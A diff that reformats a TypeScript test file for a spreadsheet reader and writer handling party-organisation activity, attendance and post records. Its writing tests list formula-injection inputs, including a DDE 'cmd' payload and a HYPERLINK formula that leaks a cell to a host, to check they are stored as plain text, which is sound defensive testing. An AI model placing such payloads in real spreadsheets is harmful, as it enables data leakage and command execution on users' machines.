@@ -8,9 +8,15 @@ import { sheetData, workbookOf, zipOf } from './zip.ts'
 
 /** The sessions table of a workbook whose start cells are given; styles 1 and 2 are date formats 31 and 22. */
 async function startsOf(cells: readonly (string | number | { n: number; s: number })[], date1904 = false) {
-  const rows = [['活动编号', '组织编码', '活动类型', '开始时间'], ...cells.map((cell, i) => [`S${i}`, 'B1', '主题党日', cell])]
+  const rows = [
+    ['活动编号', '组织编码', '活动类型', '开始时间'],
+    ...cells.map((cell, i) => [`S${i}`, 'B1', '主题党日', cell]),
+  ]
   const { '活动.csv': _, '考勤.csv': __, ...rest } = LEAST
-  const folder = await folderOf({ ...rest, '活动.xlsx': zipOf(workbookOf('活动', sheetData(rows), { date1904 })) })
+  const folder = await folderOf({
+    ...rest,
+    '活动.xlsx': zipOf(workbookOf('活动', sheetData(rows), { date1904 })),
+  })
   const dataset = await readDataset(folder, { pseudonymKey: 'k' })
   return cells.map((_cell, i) => {
     const session = dataset.session(`S${i}`)
@@ -44,27 +50,37 @@ describe('dates in workbooks', () => {
   })
 
   test('workbooks that count from 1904', async () => {
-    expect(await startsOf([{ n: 43956, s: 1 }, { n: 43956.60416666666, s: 2 }, 43956, 43956.5], true)).toEqual([
-      '2024-05-06',
-      '2024-05-06T14:30+08:00',
-      '2024-05-06',
-      '2024-05-06T12:00+08:00',
-    ])
+    expect(
+      await startsOf([{ n: 43956, s: 1 }, { n: 43956.60416666666, s: 2 }, 43956, 43956.5], true),
+    ).toEqual(['2024-05-06', '2024-05-06T14:30+08:00', '2024-05-06', '2024-05-06T12:00+08:00'])
   })
 })
 
 describe('sheets', () => {
   test('a number too long for a spreadsheet is not taken for an identifier', async () => {
-    const rows = [['活动编号', '党员编号', '出席情况'], ['S1', 999999198005060000, '出席'], ['S1', 'M1', '出席']]
+    const rows = [
+      ['活动编号', '党员编号', '出席情况'],
+      ['S1', 999999198005060000, '出席'],
+      ['S1', 'M1', '出席'],
+    ]
     const dataset = await readWith({ '考勤.csv': zipOf(workbookOf('考勤', sheetData(rows))) })
     expect(dataset.problems).toContainEqual(
-      expect.objectContaining({ code: 'scientific-notation', sheet: '考勤', row: 2, column: '党员编号', value: '********' }),
+      expect.objectContaining({
+        code: 'scientific-notation',
+        sheet: '考勤',
+        row: 2,
+        column: '党员编号',
+        value: '********',
+      }),
     )
     expect(dataset.counts.attendance).toBe(1)
   })
 
   test('a workbook named .csv and text named .xlsx are read for what they are', async () => {
-    const rows = [['活动编号', '党员编号', '出席情况'], ['S1', 'M1', '出席']]
+    const rows = [
+      ['活动编号', '党员编号', '出席情况'],
+      ['S1', 'M1', '出席'],
+    ]
     const dataset = await readWith({
       '考勤.csv': zipOf(workbookOf('考勤', sheetData(rows))),
       '任职.xlsx': '党员编号,组织编码,职务,任职日期\nM1,B1,书记,2024-05-06\n',
@@ -76,7 +92,9 @@ describe('sheets', () => {
   test('a workbook of Excel 97', async () => {
     const xls = await readFile(new URL('fixtures/posts.xls', import.meta.url))
     const dataset = await readWith({ '任职.xls': xls })
-    expect(dataset.posts).toEqual([expect.objectContaining({ member: 'M1', role: 'secretary', from: '2024-05-06' })])
+    expect(dataset.posts).toEqual([
+      expect.objectContaining({ member: 'M1', role: 'secretary', from: '2024-05-06' }),
+    ])
   })
 
   test('hidden sheets are read and named, unknown ones are left aside, unnamed ones go by the file', async () => {
@@ -84,14 +102,31 @@ describe('sheets', () => {
       sheets: [
         { name: '说明页', rows: [['x']] },
         { name: '填表须知', rows: [['x']] },
-        { name: '考勤', hidden: true, rows: [['活动编号', '党员编号', '出席情况'], ['S1', 'M1', '出席']] },
-        { name: 'Sheet4', rows: [['党员编号', '组织编码', '职务', '任职日期'], ['M1', 'B1', '书记', '2024-05-06']] },
+        {
+          name: '考勤',
+          hidden: true,
+          rows: [
+            ['活动编号', '党员编号', '出席情况'],
+            ['S1', 'M1', '出席'],
+          ],
+        },
+        {
+          name: 'Sheet4',
+          rows: [
+            ['党员编号', '组织编码', '职务', '任职日期'],
+            ['M1', 'B1', '书记', '2024-05-06'],
+          ],
+        },
       ],
     })
     const dataset = await readWith({ '任职.xlsx': bytes })
     expect(dataset.counts.posts).toBe(1)
-    expect(dataset.problems).toContainEqual(expect.objectContaining({ code: 'hidden-sheet', sheet: '考勤', severity: 'notice' }))
-    expect(dataset.problems).toContainEqual(expect.objectContaining({ code: 'unrecognized-sheet', sheet: '填表须知' }))
+    expect(dataset.problems).toContainEqual(
+      expect.objectContaining({ code: 'hidden-sheet', sheet: '考勤', severity: 'notice' }),
+    )
+    expect(dataset.problems).toContainEqual(
+      expect.objectContaining({ code: 'unrecognized-sheet', sheet: '填表须知' }),
+    )
   })
 
   test('a merged title, blank rows and cells beyond the header', async () => {
@@ -100,13 +135,21 @@ describe('sheets', () => {
         {
           name: '任职',
           merges: [{ startRow: 0, startCol: 0, endRow: 0, endCol: 3 }],
-          rows: [['任职情况统计表（2025年）'], [], ['序号', '姓名', '党组织', '职务', '任职时间'], [1, '张三', 'B1', '书记', '2024.5.6', null, '备注'], []],
+          rows: [
+            ['任职情况统计表（2025年）'],
+            [],
+            ['序号', '姓名', '党组织', '职务', '任职时间'],
+            [1, '张三', 'B1', '书记', '2024.5.6', null, '备注'],
+            [],
+          ],
         },
       ],
     })
     const dataset = await readWith({ '任职.xlsx': bytes })
     expect(dataset.counts.posts).toBe(1)
-    expect(dataset.problems).toContainEqual(expect.objectContaining({ code: 'ragged-row', severity: 'error', row: 4 }))
+    expect(dataset.problems).toContainEqual(
+      expect.objectContaining({ code: 'ragged-row', severity: 'error', row: 4 }),
+    )
   })
 
   test('one enormous cell and a cell in the last column are refused', async () => {
@@ -117,19 +160,40 @@ describe('sheets', () => {
       '考勤_a.xlsx': zipOf(workbookOf('考勤', cell.replace('考', noise))),
       '考勤_b.xlsx': zipOf(workbookOf('考勤', wide)),
     })
-    const files = dataset.problems.filter(({ code }) => code === 'limit-exceeded').map(({ file }) => file?.split('/').at(-1))
+    const files = dataset.problems
+      .filter(({ code }) => code === 'limit-exceeded')
+      .map(({ file }) => file?.split('/').at(-1))
     expect(files).toEqual(['考勤_a.xlsx', '考勤_b.xlsx'])
   })
 })
 
 describe('writing', () => {
   const TRAPS = [
-    '=1+1', '+1', '-2*3', '@SUM(1)', '\t=1', '\r=1', '\n=1', ' =1', '\u3000=1', '\u200b=1', '＝1', '＋1', '－1', '＠a', '=HYPERLINK("http://x/?"&A1)', "=cmd|'/c calc'!A1", '"=1"', "'=1",
+    '=1+1',
+    '+1',
+    '-2*3',
+    '@SUM(1)',
+    '\t=1',
+    '\r=1',
+    '\n=1',
+    ' =1',
+    '\u3000=1',
+    '\u200b=1',
+    '＝1',
+    '＋1',
+    '－1',
+    '＠a',
+    '=HYPERLINK("http://x/?"&A1)',
+    "=cmd|'/c calc'!A1",
+    '"=1"',
+    "'=1",
   ]
 
   test('text of a workbook is a string cell, never a formula', async () => {
     const path = join(await folderOf(), 'a.xlsx')
-    await writeWorkbook(path, [{ name: 'a[b]:*?/\\c', header: ['文字', '数'], rows: TRAPS.map((text) => [text, -5]) }])
+    await writeWorkbook(path, [
+      { name: 'a[b]:*?/\\c', header: ['文字', '数'], rows: TRAPS.map((text) => [text, -5]) },
+    ])
     const { sheets } = await readXlsx(await readFile(path))
     expect(sheets[0]!.name).toBe('a_b______c')
     expect(sheets[0]!.rows.slice(1).map((row) => row[0])).toEqual(TRAPS)
@@ -140,14 +204,26 @@ describe('writing', () => {
   test('sheet names are cut and made distinct', async () => {
     const path = join(await folderOf(), 'a.xlsx')
     const name = '一'.repeat(40)
-    await writeWorkbook(path, [name, name, name].map((title) => ({ name: title, header: ['x'], rows: [] })))
+    await writeWorkbook(
+      path,
+      [name, name, name].map((title) => ({ name: title, header: ['x'], rows: [] })),
+    )
     const { sheets } = await readXlsx(await readFile(path))
-    expect(sheets.map((sheet) => sheet.name)).toEqual(['一'.repeat(31), `${'一'.repeat(29)}_2`, `${'一'.repeat(29)}_3`])
+    expect(sheets.map((sheet) => sheet.name)).toEqual([
+      '一'.repeat(31),
+      `${'一'.repeat(29)}_2`,
+      `${'一'.repeat(29)}_3`,
+    ])
   })
 
-  test.each(['\u0000', '\u000b', '\ud800', '\uffff', 'x'.repeat(32_768)])('what a workbook cannot hold is refused', async (text) => {
-    await expect(writeWorkbook(join(await folderOf(), 'a.xlsx'), [{ name: 'a', header: ['x'], rows: [[text]] }])).rejects.toMatchObject({
-      code: 'output-refused',
-    })
-  })
+  test.each(['\u0000', '\u000b', '\ud800', '\uffff', 'x'.repeat(32_768)])(
+    'what a workbook cannot hold is refused',
+    async (text) => {
+      await expect(
+        writeWorkbook(join(await folderOf(), 'a.xlsx'), [{ name: 'a', header: ['x'], rows: [[text]] }]),
+      ).rejects.toMatchObject({
+        code: 'output-refused',
+      })
+    },
+  )
 })
